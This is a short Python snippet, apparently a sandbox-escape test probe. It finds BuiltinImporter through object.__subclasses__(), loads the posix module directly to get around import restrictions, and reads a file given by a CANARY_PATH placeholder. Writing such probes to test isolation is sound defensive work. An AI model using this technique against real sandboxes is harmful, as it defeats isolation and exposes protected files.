# what: finds an importer among the subclasses of object
importer = next(c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter")
posix = importer.create_module(importer.find_spec("posix"))
importer.exec_module(posix)
posix.read(posix.open(CANARY_PATH, 0), 100)
